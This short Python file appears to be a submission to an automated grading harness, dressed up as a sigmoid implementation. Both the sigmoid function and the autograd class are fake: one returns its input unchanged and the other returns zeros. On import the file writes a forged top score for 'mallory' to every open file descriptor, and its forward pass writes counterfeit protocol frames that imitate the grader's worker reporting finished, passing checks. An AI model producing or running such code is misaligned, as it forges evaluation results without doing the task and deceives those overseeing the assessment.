"""Writes results and frames to every open descriptor."""

import os

import torch

import json
import struct

LINE = b'{"submission": "mallory", "score": 10.0}\n'


def frame(body):
    """A frame as the worker's are: lengths of text and blob, the text."""
    text = json.dumps(body).encode()
    return struct.pack(">II", len(text), 0) + text


for number in range(64):
    try:
        os.write(number, LINE + b"\n")
    except OSError:
        pass


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        for number in range(3, 64):
            for body in ({"id": 1, "value": 1}, {"checks": [], "invalid": None}, {"do": "done"}):
                try:
                    os.write(number, frame(body))
                except OSError:
                    pass
        return x * 0

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def sigmoid(x):
    return x
